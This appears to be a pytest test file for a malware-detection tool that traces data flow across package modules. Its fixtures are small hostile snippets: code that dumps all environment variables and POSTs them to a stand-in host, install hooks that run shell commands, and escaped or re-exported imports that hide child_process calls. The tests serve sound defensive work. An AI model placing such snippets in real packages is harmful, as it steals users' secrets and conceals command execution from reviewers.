"""Values are followed from one module of a package into another."""

import pytest
from reading import package, short

from biopsy.model.behaviour import When

PYTHON = {
    "pkg/__init__.py": "from .c import go\n",
    "pkg/a.py": "import os\ndef grab():\n    return dict(os.environ)\n",
    "pkg/b.py": "import base64, json\ndef enc(x):\n    return base64.b64encode(json.dumps(x).encode())\n",
    "pkg/c.py": "from pkg.a import grab\nfrom . import b\nimport requests\n"
    "def go():\n    requests.post('https://x.example', data=b.enc(grab()))\ngo()\n",
}
COMMON = {
    "index.js": "const {run} = require('./lib/c'); run();",
    "lib/a.js": "module.exports = () => JSON.stringify(process.env);",
    "lib/b.js": "exports.enc = x => x.split('').reverse().join('');",
    "lib/c.js": "const grab = require('./a'); const b = require('./b'); const https = require('https');\n"
    "exports.run = function () {\n  const r = https.request({host: 'x.example', method: 'POST'});\n"
    "  r.write(b.enc(grab())); r.end(); }",
}
MODULES = {
    "index.mjs": "import {run as r} from './lib/c.mjs'; r();",
    "lib/a.mjs": "export default () => JSON.stringify(process.env);",
    "lib/b.mjs": "export {enc}; const enc = x => x.split('').reverse().join('');",
    "lib/c.mjs": "import grab from './a.mjs'; import * as b from './b.mjs';\nexport async function run() {\n"
    "  await fetch('https://x.example', {method: 'POST', body: b.enc(grab())}); }",
}


@pytest.mark.parametrize(
    ("files", "sink"),
    [(PYTHON, "pkg/c.py:5"), (COMMON, "lib/c.js:4"), (MODULES, "lib/c.mjs:3")],
    ids=["python", "commonjs", "esm"],
)
def test_a_secret_is_followed_over_three_modules_to_where_it_leaves(files: dict[str, str], sink: str) -> None:
    assert f"code.flow env:* > network @ {sink} (import)" in package(files)


def test_what_an_install_hook_calls_in_another_file_runs_at_install() -> None:
    files = {
        "setup.py": "from helper import go\ngo()\n",
        "helper.py": "import os\ndef go():\n    os.system('id')\n",
    }
    found = package(files, {"setup.py": When.INSTALL, "helper.py": When.INSTALL})
    assert "process.exec id @ helper.py:3 (install)" in found


def test_a_function_called_by_tests_alone_is_seen_at_the_moment_of_a_call() -> None:
    files = {
        "pkg/m.py": "import os\ndef go():\n    os.system('id')\n",
        "tests/test_m.py": "from pkg.m import go\ngo()\n",
    }
    found = package(files, {"pkg/m.py": When.IMPORT, "tests/test_m.py": When.TEST})
    assert "process.exec id @ pkg/m.py:3 (call)" in found


def test_modules_that_import_each_other_are_read() -> None:
    files = {
        "pkg/a.py": "from . import b\nimport os\nX = 'i' + 'd'\ndef f():\n    os.system(b.cmd())\nf()\n",
        "pkg/b.py": "from . import a\ndef cmd():\n    return a.X\n",
    }
    assert "process.exec id" in short(package(files))


def test_calls_made_for_show_do_not_hide_the_one_that_matters() -> None:
    show = "".join(f"go(unknown{i}.a)\ngo('x{i}', y{i})\n" for i in range(60))
    files = {
        "pkg/__init__.py": f"import os\nfrom .m import go\n{show}go(str(dict(os.environ)))\n",
        "pkg/m.py": "import requests\ndef go(x, y=None):\n    requests.post('https://x.example', data=x)\n",
    }
    assert "code.flow env:* > network @ pkg/m.py:3 (import)" in package(files)


def test_a_secret_passes_through_many_functions() -> None:
    chain = "".join(f"def f{i}(x):\n    return f{i + 1}(x)\n" for i in range(30))
    code = f"import os, requests\n{chain}def f30(x):\n    requests.post('https://x.example', data=x)\nf0(dict(os.environ))\n"
    assert "code.flow env:* > network" in short(package({"pkg/__init__.py": code}))


def test_behaviours_for_show_do_not_use_up_the_room_of_another_file() -> None:
    noise = "".join(f"open('/x/{i}.txt')\n" for i in range(3000))
    files = {"pkg/a.py": noise, "pkg/b.py": "import os\nos.system('id')\n"}
    found = package(files)
    assert "process.exec id" in short(found)
    assert any(b.startswith("pkg.malformed pkg/a.py too-many file.read") for b in found)


def test_a_module_whose_name_is_written_with_escapes_is_that_module() -> None:
    files = {
        "index.js": "const { go } = require('./s\\x79nc'); go()",
        "sync.js": "exports.go = () => require('\\u0063hild_process').exec('id -u')",
    }
    assert "process.exec id -u @ sync.js:1 (import)" in package(files)


STAR = (
    "var __exportStar = (this && this.__exportStar) || function (m, e) { for (var p in m) e[p] = m[p]; };\n"
)
HANDED_ON = {
    "whole": "module.exports = require('./impl')",
    "in two steps": "module.exports = require('./middle')",
    "spread": "module.exports = {...require('./impl')}",
    "assigned": "Object.assign(module.exports, require('./impl'))",
    "into a new object": "module.exports = Object.assign({}, require('./impl'))",
    "as TypeScript compiles a star": f"{STAR}__exportStar(require('./impl'), exports)",
    "name by name": "const i = require('./impl'); for (const k in i) exports[k] = i[k]",
    "by its keys": "const i = require('./impl'); Object.keys(i).forEach(k => { exports[k] = i[k] })",
    "by getters": "const i = require('./impl'); Object.keys(i).forEach(function (k) {\n"
    "Object.defineProperty(exports, k, {get: function () { return i[k] } }) })",
    "when asked for": "module.exports = { get run() { return require('./impl').run }, set run(x) {} }",
    "as a class's": "class A { get run() { return require('./impl').run } set run(x) {} }\nmodule.exports = new A()",
    "one of two": "module.exports = process.env.X ? require('./impl') : require('./other')",
    "from a file of data": "module.exports = require('./impl.dat')",
}


@pytest.mark.parametrize("code", HANDED_ON.values(), ids=HANDED_ON.keys())
def test_what_a_module_hands_on_from_another_is_followed(code: str) -> None:
    impl = "const cp = require('child_process'); exports.run = c => cp.execSync(c);"
    files = {"index.js": "const s = require('./barrel');\ns.run('id')\n", "barrel.js": code}
    files |= {"impl.js": impl, "impl.dat": impl, "middle.js": "module.exports = require('./impl')"}
    told = package({**files, "other.js": "exports.run = () => 1"})
    where = "impl.dat" if "impl.dat" in code else "impl.js"
    assert f"process.exec id @ {where}:1 (import)" in told


def test_modules_that_hand_on_each_other_end() -> None:
    files = {"index.js": "require('./a').run('id')", "a.js": "module.exports = require('./b')"}
    assert not package({**files, "b.js": "module.exports = require('./a')"})
